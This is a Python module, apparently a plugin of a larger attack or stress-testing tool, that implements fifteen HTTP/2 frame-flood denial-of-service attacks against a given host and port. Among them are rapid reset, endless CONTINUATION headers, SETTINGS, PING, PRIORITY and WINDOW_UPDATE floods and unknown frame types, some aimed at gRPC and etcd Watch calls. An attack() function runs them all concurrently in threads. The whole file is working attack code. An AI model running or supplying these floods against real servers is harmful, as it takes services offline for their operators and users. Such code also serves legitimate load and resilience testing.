"""HTTP/2 frames that cost the sender nothing: resets, SETTINGS, PINGs, priorities, empty DATA,
window updates, CONTINUATIONs without an end, and what nobody knows; one connection after another.
"""
import collections
import itertools
import struct
import threading

import wire

NAME = "HTTP/2 frame floods"
BURST = 400


def rapid_reset():
    ids = itertools.count(1, 2)

    def burst():
        out = []
        for n in itertools.islice(ids, BURST):
            out.append(wire.headers(n, wire.grpc_head()))
            out.append(wire.frame(wire.RST_STREAM, 0, n, struct.pack(">I", 8)))
        return b"".join(out)
    return burst


def made_to_reset():
    """Calls that break the protocol right after they began, so that the server resets them."""
    ids = itertools.count(1, 2)

    def burst():
        zero = struct.pack(">I", 0)
        return b"".join(wire.headers(n, wire.grpc_head()) + wire.frame(wire.WINDOW, 0, n, zero)
                        for n in itertools.islice(ids, BURST))
    return burst


def same(data):
    return lambda: lambda: data * BURST


def on_one_call(data):
    """The call first, then the same over and over."""
    def make():
        begun = []

        def burst():
            first = b"" if begun else wire.headers(1, wire.grpc_head(b"/etcdserverpb.Watch/Watch"))
            begun.append(True)
            return first + data * BURST
        return burst
    return make


def endless_head():
    begun = []

    def burst():
        first = b"" if begun else wire.headers(1, wire.grpc_head(), flags=0)
        begun.append(True)
        return first + wire.frame(wire.CONTINUATION, 0, 1, wire.literal(b"a", b"b" * 100)) * BURST
    return burst


def unknown_streams():
    ids = itertools.count(2_000_001, 2)
    return lambda: b"".join(wire.frame(wire.PRIORITY, 0, next(ids), b"\0\0\0\0\x10")
                            for _ in range(BURST))


FLOODS = {
    "rapid reset": rapid_reset,
    "made to reset": made_to_reset,
    "SETTINGS": same(wire.settings((4, 65535))),
    "acknowledgements of SETTINGS": same(wire.frame(wire.SETTINGS, wire.ACK)),
    "PING": same(wire.frame(wire.PING, 0, 0, b"12345678")),
    "answers to PING": same(wire.frame(wire.PING, wire.ACK, 0, b"12345678")),
    "PRIORITY": unknown_streams,
    "empty DATA": on_one_call(wire.frame(wire.DATA, 0, 1)),
    "padded DATA": on_one_call(wire.frame(wire.DATA, 8, 1, b"\x02\0\0")),
    "window updates of the connection": same(wire.frame(wire.WINDOW, 0, 0, struct.pack(">I", 1))),
    "window updates of a call": on_one_call(wire.frame(wire.WINDOW, 0, 1, struct.pack(">I", 1))),
    "frames that nobody knows": same(wire.frame(0xbb, 0, 0, b"x")),
    "CONTINUATION": endless_head,
    "empty CONTINUATION": on_one_call(wire.frame(wire.CONTINUATION, 0, 1)),
    "GOAWAY": same(wire.frame(wire.GOAWAY, 0, 0, bytes(8))),
}


def flood_once(host, port, stop, name, counts):
    """One connection of that kind, until the server has enough of it."""
    s = wire.dial(host, port)
    if s is None:
        counts["not connected"] += 1
        stop.wait(0.1)
        return
    with s:
        wire.pour(s, stop, wire.OPENING, FLOODS[name](), True, counts)


def attack(host, port, stop, log):
    log(f"{len(FLOODS)} kinds of floods of HTTP/2 frames")
    counts = {name: collections.Counter() for name in FLOODS}

    def run(name):
        while not stop.is_set():
            flood_once(host, port, stop, name, counts[name])

    threads = [threading.Thread(target=run, args=(name,)) for name in FLOODS]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return {f"{name}: {what}": n for name, c in counts.items() for what, n in c.items()}
